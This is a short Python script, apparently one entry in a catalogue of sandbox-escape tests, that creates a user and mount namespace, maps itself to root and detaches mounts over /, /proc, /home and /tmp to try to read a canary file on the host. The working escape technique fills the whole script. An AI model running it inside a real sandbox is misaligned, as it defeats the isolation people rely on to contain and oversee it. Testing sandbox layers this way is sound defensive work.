# /// attack
# catalogue = "reading: files of the machine"
# layers = ["seccomp", "privileges", "view"]
# aim = "canary"
# ///
# Makes namespaces of its own, in which it would be root, and undoes the mounts that hide files.

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
NEWUSER, NEWNS, DETACH = 0x10000000, 0x00020000, 2
uid, gid = os.getuid(), os.getgid()
print(libc.unshare(NEWUSER | NEWNS), ctypes.get_errno())
try:
    open("/proc/self/setgroups", "w").write("deny")
    open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
    open("/proc/self/gid_map", "w").write(f"0 {gid} 1")
except OSError as error:
    print(error)
if os.readlink("/proc/self/ns/mnt") != TARGET["mount_namespace"]:  # never the machine's own
    for path in ("/tmp", "/proc", "/home", "/"):
        print(path, libc.umount2(path.encode(), DETACH), ctypes.get_errno())
try:
    print(open(TARGET["host"]).read())
except OSError as error:
    print(error)
